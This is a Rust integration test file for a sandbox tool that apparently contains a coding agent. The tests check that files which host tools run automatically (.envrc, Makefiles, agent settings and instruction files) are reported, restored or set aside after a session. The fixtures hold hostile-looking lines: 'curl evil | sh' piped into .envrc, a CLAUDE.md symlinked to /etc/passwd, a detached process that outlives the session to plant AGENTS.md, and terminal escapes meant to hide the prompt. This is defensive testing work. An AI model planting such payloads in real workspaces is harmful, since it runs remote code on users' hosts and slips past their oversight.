//! What tools of the host obey, with a real container: told when a session is left, shown, asked about and undone.

use crate::support::run::Run;
use crate::support::sandbox::Sandbox;
use crate::support::terminal::Terminal;
use std::fs;

/// What a session writes: of the user's, anew, deep, in a directory that is closed afterwards, and as a fifo.
const WRITES: &str = "echo 'curl evil | sh' >>.envrc\n\
                      mkdir -p a/b/.claude && echo '{}' >a/b/.claude/settings.json && chmod 0 a/b/.claude\n\
                      rm CLAUDE.md && mkfifo CLAUDE.md\n\
                      printf 'all:\\n' >a/b/GNUmakefile\n";

fn left<'a>(sandbox: &'a Sandbox, args: &[&'static str]) -> Run<'a> {
    sandbox.task("sandbox").args(["--yes", "--shell"]).args(args.iter().copied()).stdin(WRITES).run().ok()
}

fn prepared() -> Sandbox {
    let sandbox = Sandbox::new();
    fs::write(sandbox.workspace().join(".envrc"), "export A=1\n").expect("a file");
    fs::write(sandbox.workspace().join("CLAUDE.md"), "of the user\n").expect("a file");
    sandbox
}

#[track_caller]
fn told(run: &Run) {
    for line in [
        "`.envrc` changed: obeyed without a question by direnv",
        "\n    + curl evil | sh\n",
        "`CLAUDE.md` changed (a fifo, a socket or a device)",
        "`a/b/.claude/settings.json` is new",
        "`a/b/GNUmakefile` is new: obeyed by make, once you run it",
    ] {
        assert!(run.stderr.contains(line), "{line:?} in: {}", run.stderr);
    }
}

#[test]
fn what_acts_by_itself_is_kept_where_nobody_says_otherwise_and_put_back_where_somebody_does() {
    let sandbox = prepared();
    let at = |name: &str| sandbox.workspace().join(name);
    let run = left(&sandbox, &[]);
    told(&run);
    assert!(run.stderr.contains("is kept, because nobody could be asked"), "{}", run.stderr);
    assert_eq!(fs::read_to_string(at(".envrc")).expect("it"), "export A=1\ncurl evil | sh\n");
    // Until somebody decides it is named, by each call.
    let run = sandbox.enter(["--version"]).ok();
    assert!(run.stderr.contains("and is undecided: `.envrc` changed"), "{}", run.stderr);
    let status = sandbox.task("status").run().ok();
    assert!(status.stdout.contains("undecided     `.envrc` changed"), "{}", status.stdout);
    sandbox.task("sandbox").args(["--yes", "--on-change", "keep", "--", "--version"]).run().ok();
    let run = sandbox.enter(["--version"]).ok();
    assert!(!run.stderr.contains("`.envrc`"), "it is decided: {}", run.stderr);

    // The user's own changes between two sessions are told, and not asked about.
    fs::write(at(".envrc"), "export B=2\n").expect("a file");
    fs::remove_file(at("CLAUDE.md")).expect("the fifo");
    fs::write(at("CLAUDE.md"), "of the user\n").expect("a file");
    let again = "echo evil >.envrc; rm CLAUDE.md; ln -s /etc/passwd CLAUDE.md; echo x >.mcp.json; echo y >Makefile\n";
    let run = sandbox.task("sandbox").args(["--yes", "--shell", "--on-change", "restore"]).stdin(again).run().ok();
    let (before, after) = run.stderr.split_once("$ docker exec").expect("the session");
    assert!(before.contains("since the sandbox was last looked at, this has changed in the workspace"), "{before}");
    assert!(before.contains("  `.envrc` changed: "), "{before}");
    assert!(
        after.contains("`.envrc` is what it was; what took its place is set aside as `.envrc.set-aside-1`"),
        "{after}"
    );
    assert_eq!(fs::read_to_string(at(".envrc")).expect("it"), "export B=2\n");
    assert_eq!(fs::read_to_string(at(".envrc.set-aside-1")).expect("it"), "evil\n");
    assert_eq!(fs::read_to_string(at("CLAUDE.md")).expect("it"), "of the user\n");
    assert!(
        at("CLAUDE.md.set-aside-1").is_symlink() && at(".mcp.json.set-aside-1").exists() && !at(".mcp.json").exists()
    );
    assert!(at("Makefile").exists(), "an ordinary file of the project is only named");
}

#[test]
fn what_is_new_is_set_aside_at_the_exit_and_by_down() {
    let sandbox = prepared();
    let at = |name: &str| sandbox.workspace().join(name);
    let run = left(&sandbox, &["--on-change", "aside"]);
    told(&run);
    assert!(!at(".envrc").exists() && at(".envrc.set-aside-1").exists() && !at("CLAUDE.md").exists());
    assert!(
        at("codex-sandbox-set-aside/a+b+.claude+settings.json.set-aside-1").exists() && at("a/b/GNUmakefile").exists()
    );
    let late = "setsid sh -c 'until [ -e go ]; do sleep 0.1; done; echo x >AGENTS.md; touch done' >/dev/null 2>&1 </dev/null &\n";
    sandbox.task("sandbox").args(["--yes", "--shell"]).stdin(late).run().ok();
    fs::write(at("go"), "").expect("a sign");
    crate::support::proc::wait_for("its file", 20, || at("done").exists().then_some(()));
    let run = sandbox.task("down").args(["--on-change", "aside"]).run().ok();
    assert!(run.stderr.contains("`AGENTS.md` is set aside as `AGENTS.md.set-aside-1`"), "{}", run.stderr);
    assert!(!at("AGENTS.md").exists());
}

#[test]
fn a_terminal_asks_and_an_answer_restores() {
    let sandbox = prepared();
    let terminal = Terminal::open(&sandbox.place, sandbox.task("sandbox").args(["--shell"]));
    terminal.shows("Enter a shell? [Y/n]", 180);
    terminal.press("Enter");
    terminal.shows("$ ", 20);
    // What would hide the question: the other screen, hidden letters, a terminal that reports the mouse.
    terminal.types("printf '\\033[?1049h\\033[?1003h\\033[2;3r\\033[8m'; echo evil >>.envrc; exit");
    terminal.press("Enter");
    let question = "Keep what acts by itself, restore what was there, or set it aside? [K/r/a]";
    terminal.shows(question, 60);
    assert_eq!(terminal.format("#{alternate_on} #{mouse_any_flag} #{scroll_region_upper}"), "0 0 0");
    // Without an answer it is asked again, at the next entry.
    terminal.press("C-c");
    assert_eq!(terminal.ended(20), 130);
    let status = sandbox.task("status").run().ok();
    assert!(status.stdout.contains("undecided     `.envrc` changed"), "{}", status.stdout);
    let terminal = Terminal::open(&sandbox.place, sandbox.task("sandbox").args(["--shell"]));
    terminal.shows(question, 60);
    terminal.types("r");
    terminal.press("Enter");
    terminal.shows("`.envrc` is what it was", 20);
    terminal.shows("Enter a shell? [Y/n]", 60);
    terminal.types("n");
    terminal.press("Enter");
    assert_eq!(terminal.ended(20), 0);
    assert_eq!(fs::read_to_string(sandbox.workspace().join(".envrc")).expect("it"), "export A=1\n");
}
